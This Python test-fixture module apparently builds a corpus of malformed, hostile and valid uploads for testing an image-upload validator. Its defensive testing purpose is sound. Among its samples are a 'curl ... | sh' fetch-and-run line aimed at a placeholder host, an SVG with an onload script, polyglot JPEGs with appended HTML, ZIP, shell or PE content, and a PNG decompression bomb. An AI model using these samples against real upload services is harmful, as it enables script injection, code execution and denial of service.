"""A corpus of hostile, broken and valid uploads, generated deterministically.

Nothing here is committed as a file: every case is built from the real Reconyx JPEGs in
``tests/data`` or from a few bytes, so a reader sees exactly what each case contains.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from functools import cache
from pathlib import Path

from PIL import Image

MEDIA_DIR = Path(__file__).resolve().parents[1] / "data" / "camtrap-dp" / "example" / "media"
REAL_JPEG = MEDIA_DIR / "20210531082538-RCNX0031.JPG"

HTML_PAYLOAD = b"<html><body><script>fetch('/v1/media').then(r => r.text())</script></body></html>"


@cache
def real_jpeg() -> bytes:
    return REAL_JPEG.read_bytes()


def empty() -> bytes:
    return b""


def truncated_jpeg() -> bytes:
    data = real_jpeg()
    return data[: len(data) // 2]


def jpeg_with_garbage() -> bytes:
    """4 KiB in the middle of the image data overwritten with (seeded) random bytes."""
    data = real_jpeg()
    middle = len(data) // 2
    garbage = random.Random(20210411).randbytes(4096)
    return data[:middle] + garbage + data[middle + len(garbage) :]


def html_named_jpg() -> bytes:
    """What a captive portal or a misconfigured proxy returns instead of the photo."""
    return b"\xef\xbb\xbf\n  <!DOCTYPE html>\n<html><head><title>Login</title></head></html>\n"


def svg() -> bytes:
    return b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def xml() -> bytes:
    return b'<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>AccessDenied</Code></Error>'


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(56)


def pe() -> bytes:
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    return stub + bytes(48) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(16)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"


def pdf() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        # A fixed timestamp keeps the bytes the same on every run.
        info = zipfile.ZipInfo("payload.html", date_time=(2021, 4, 11, 20, 43, 9))
        archive.writestr(info, HTML_PAYLOAD)
    return buffer.getvalue()


def json_text() -> bytes:
    return b'{"error": "upstream timeout"}\n'


def unknown_binary() -> bytes:
    return bytes(range(7, 64)) * 4


def gif() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"


def polyglot_jpeg_html() -> bytes:
    return real_jpeg() + HTML_PAYLOAD


def polyglot_jpeg_zip() -> bytes:
    return real_jpeg() + zip_archive()


def polyglot_jpeg_script() -> bytes:
    return real_jpeg() + b"\n" + shell_script()


def polyglot_jpeg_pe() -> bytes:
    return real_jpeg() + pe()


def jpeg_with_padding() -> bytes:
    """Zeros after the end-of-image marker, as some cameras write to fill a block."""
    return real_jpeg() + bytes(512)


def jpeg_followed_by_jpeg() -> bytes:
    """A second image after the first, like the preview in an MPF (multi-picture) file."""
    return real_jpeg() + small_jpeg()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload))
    )


def png_bomb(width: int = 30000, height: int = 30000) -> bytes:
    """A valid 1-bit PNG of ``width`` x ``height`` black pixels: about 0.1 MB on disk, some
    900 MB once Pillow decodes it (one byte per pixel)."""
    row = bytes(1 + (width + 7) // 8)  # filter byte "none" and the packed zero bits
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def png_header_only(width: int, height: int) -> bytes:
    """A PNG header that claims a size and carries no image data at all."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)


def _pillow_image(size: tuple[int, int] = (64, 48)) -> Image.Image:
    image = Image.new("RGB", size)
    for x in range(size[0]):
        for y in range(size[1]):
            image.putpixel((x, y), (x * 4 % 256, y * 5 % 256, (x + y) % 256))
    return image


def _encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def small_jpeg() -> bytes:
    return _encode(_pillow_image(), "JPEG", quality=80)


def valid_png() -> bytes:
    return _encode(_pillow_image(), "PNG")


def valid_tiff() -> bytes:
    return _encode(_pillow_image(), "TIFF")


def valid_webp() -> bytes:
    return _encode(_pillow_image(), "WEBP", quality=80)


def valid_lossless_webp() -> bytes:
    return _encode(_pillow_image(), "WEBP", lossless=True)


def truncated_png() -> bytes:
    data = valid_png()
    return data[: len(data) // 2]


def jpeg_with_exif(exif: Image.Exif) -> bytes:
    return _encode(_pillow_image(), "JPEG", exif=exif.tobytes())


def jpeg_with_broken_exif() -> bytes:
    """A JPEG whose APP1 segment says Exif and then holds random bytes."""
    data = small_jpeg()
    payload = b"Exif\x00\x00" + random.Random(7).randbytes(200)
    app1 = b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + app1 + data[2:]


def _ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = major + b"\x00\x00\x02\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body


def fake_mp4() -> bytes:
    """An ``ftyp`` box followed by garbage: sniffs as MP4; validating video is later work."""
    return _ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41") + random.Random(4).randbytes(512)


def fake_mov() -> bytes:
    return _ftyp(b"qt  ", b"qt  ") + bytes(64)


def fake_heic() -> bytes:
    return _ftyp(b"heic", b"mif1", b"heic") + bytes(64)


def fake_avif() -> bytes:
    return _ftyp(b"avif", b"avif", b"mif1", b"miaf") + bytes(64)


def fake_avi() -> bytes:
    return b"RIFF" + struct.pack("<I", 1024) + b"AVI LIST" + bytes(64)
